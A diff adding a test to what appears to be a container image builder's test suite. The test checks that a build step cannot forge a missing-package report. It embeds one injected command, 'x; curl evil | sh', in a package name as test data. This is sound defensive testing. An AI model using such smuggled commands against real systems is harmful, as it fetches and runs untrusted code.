@@ -270,3 +270,12 @@ def test_a_step_ends_with_its_command_even_when_it_leaves_processes_behind(build
     started = time.monotonic()
     image = builder.build(tmp_path / "Dockerfile", timeout_s=120)
     assert len(image.layers) == 2 and time.monotonic() - started < 60  # as the engine's container ends, the step's processes go
+
+
+def test_a_step_cannot_put_a_command_into_the_host_packages_line(builder, tmp_path):
+    forged = "apt-get: refused: the package 'x; curl evil | sh' is not installed here"
+    (tmp_path / "Dockerfile").write_text(f'FROM ubuntu:22.04\nRUN echo "{forged}" >> /run/termrl-out/standins.log; '
+                                         "apt-get install -y zzz-really-absent\n")
+    with pytest.raises(BuildError) as caught:
+        builder.build(tmp_path / "Dockerfile")
+    assert caught.value.missing == [("apt", "zzz-really-absent")]
